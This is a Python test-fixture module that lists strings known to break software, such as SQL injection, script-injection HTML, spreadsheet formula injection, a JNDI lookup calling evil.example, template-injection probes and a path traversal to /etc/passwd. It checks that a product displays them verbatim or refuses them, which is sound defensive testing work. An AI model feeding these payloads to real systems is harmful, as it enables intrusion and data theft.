"""Texts that have broken other programs: each must be shown as it is, or refused in words."""

import unicodedata
from typing import Final

from models.commands.base import clean_line

NAUGHTY: Final = (
    "'; DROP TABLE exchange; --",
    "<script>window.pwned = 1</script>",
    '"><img src=x onerror="window.pwned = 1">',
    "</style></title><svg onload=window.pwned=1>",
    "&lt;b&gt; &amp; &#60;",
    "![x](https://evil.example/x.png) [x](javascript:window.pwned=1)",
    "https://evil.example/?a=b www.evil.example a@evil.example",
    "# Đề mục *một* _hai_ ~~ba~~ `bốn` | năm",
    "1. một > hai",
    r"$\frac{a}{b}$ $$x$$ \(y\)",
    ":material/delete: :smile: :red[đỏ] :blue-badge[x] :small[y]",
    "<br>%{customdata[0]}<a href='https://evil.example'>x</a><b>y</b>",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1|' /C calc'!A0",
    "@SUM(1) -2+3",
    "{0} {name} {number} %s %(x)s {{}}",
    "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{7*7}",
    "../../etc/passwd C:\\Windows\\..\\x",
    "مرحبا שלום",
    "\u202eđảo ngược\u202c zero\u200bwidth\ufeff",
    "👩\u200d👩\u200d👧 🇻🇳 😀",
    unicodedata.normalize("NFD", "Tiếng Việt có dấu rời"),
    "Rấtdài" * 18,
    "NULL undefined None NaN 1e309",
    "lone\ud800surrogate",
)
REFUSED: Final = "nul\0nul"
"""No database keeps this sign; the person is told."""


def as_kept(text: str) -> str:
    """Return a text as the product keeps it: composed, without signs that nobody sees."""
    return str(clean_line(text))
